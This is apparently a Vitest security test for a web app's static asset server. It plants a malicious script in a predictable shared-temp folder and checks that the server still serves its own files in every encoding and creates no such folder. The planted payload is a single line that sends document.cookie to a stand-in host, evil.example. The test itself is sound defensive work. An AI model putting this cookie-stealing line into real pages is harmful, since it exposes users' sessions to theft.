import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { brotliDecompressSync, gunzipSync, gzipSync, brotliCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestLedger, type TestLedger } from './support/testLedger.ts';

const STATIC_DIR = join(process.cwd(), 'web', 'static');
const CHART_JS = join(dirname(createRequire(import.meta.url).resolve('chart.js')), 'chart.umd.js');
const sources = new Map<string, string>([...readdirSync(STATIC_DIR).map((n) => [n, join(STATIC_DIR, n)] as [string, string]), ['chart.umd.js', CHART_JS]]);

/**
 * What another local user could do when assets were served from a folder in the shared temporary
 * directory named after their content: compute the name, create the folder first, and put a script
 * of their own in it. The server must serve the package's own bytes regardless, and use no such folder.
 */
function plantAssetsFolder(): string {
  const hashes = [...sources].map(([name, file]) => `${name}:${createHash('sha256').update(readFileSync(file)).digest('hex').slice(0, 12)}`);
  const folder = join(tmpdir(), `transition-ledger-web-${createHash('sha256').update(hashes.sort().join('\n')).digest('hex').slice(0, 16)}`);
  mkdirSync(folder, { recursive: true });
  const planted = Buffer.from('fetch("https://evil.example/?c=" + document.cookie);\n');
  for (const name of sources.keys()) {
    writeFileSync(join(folder, name), planted);
    writeFileSync(join(folder, `${name}.gz`), gzipSync(planted));
    writeFileSync(join(folder, `${name}.br`), brotliCompressSync(planted));
  }
  writeFileSync(join(folder, '.complete'), '');
  return folder;
}

describe('static assets: the package’s own files, from memory', () => {
  let ledger: TestLedger;
  let privateTmp: string;
  const previousTmp = process.env.TMPDIR;
  beforeAll(async () => {
    // A temporary directory of this test alone stands for the shared one, so other runs cannot interfere.
    privateTmp = mkdtempSync(join(tmpdir(), 'ledger-shared-tmp-'));
    process.env.TMPDIR = privateTmp;
    plantAssetsFolder();
    ledger = await startTestLedger();
    await ledger.app.ready();
  });
  afterAll(async () => {
    await ledger?.close();
    process.env.TMPDIR = previousTmp;
    rmSync(privateTmp, { recursive: true, force: true });
  });

  const assetUrls = async () => [...(await ledger.get('/')).body.matchAll(/(?:src|href)="(\/static\/[^"?]+\?v=[0-9a-f]+)"/g)].map((m) => m[1]!);

  it('given a script planted in the shared temporary folder under the predictable name, then every asset is served with the package’s bytes, in every encoding', async () => {
    const urls = await assetUrls();
    expect(urls.length).toBeGreaterThanOrEqual(3);
    for (const url of urls) {
      const name = url.slice('/static/'.length).split('?')[0]!;
      const own = readFileSync(sources.get(name)!);
      const br = await ledger.app.inject({ url, headers: { 'accept-encoding': 'br, gzip' } });
      expect(br.headers['content-encoding'], url).toBe('br');
      expect(brotliDecompressSync(br.rawPayload).equals(own), url).toBe(true);
      const gz = await ledger.app.inject({ url, headers: { 'accept-encoding': 'gzip' } });
      expect(gz.headers['content-encoding'], url).toBe('gzip');
      expect(gunzipSync(gz.rawPayload).equals(own), url).toBe(true);
      const plain = await ledger.app.inject({ url, headers: { 'accept-encoding': 'identity' } });
      expect(plain.headers['content-encoding'], url).toBeUndefined();
      expect(plain.rawPayload.equals(own), url).toBe(true);
      expect(plain.headers['cache-control'], url).toContain('immutable');
      expect(plain.headers.vary, url).toMatch(/accept-encoding/i);
      expect(plain.headers['content-type'], url).toMatch(name.endsWith('.css') ? /^text\/css/ : name.endsWith('.svg') ? /^image\/svg\+xml/ : /^text\/javascript/);
    }
  });

  it('given an empty temporary folder, when a server starts and serves its assets, then it writes no assets folder there', async () => {
    const empty = mkdtempSync(join(privateTmp, 'empty-'));
    process.env.TMPDIR = empty;
    const other = await startTestLedger();
    try {
      for (const url of await assetUrls()) expect((await other.app.inject({ url })).statusCode).toBe(200);
      expect(readdirSync(empty).filter((n) => !n.startsWith('ledger-e2e-'))).toEqual([]);
    } finally {
      await other.close();
      process.env.TMPDIR = privateTmp;
    }
  });

  it.each(['/static/.complete', '/static/app.js.br', '/static/__proto__', '/static/constructor', '/static/'])('given %s, then 404', async (url) => {
    expect((await ledger.get(url)).statusCode).toBe(404);
  });
});
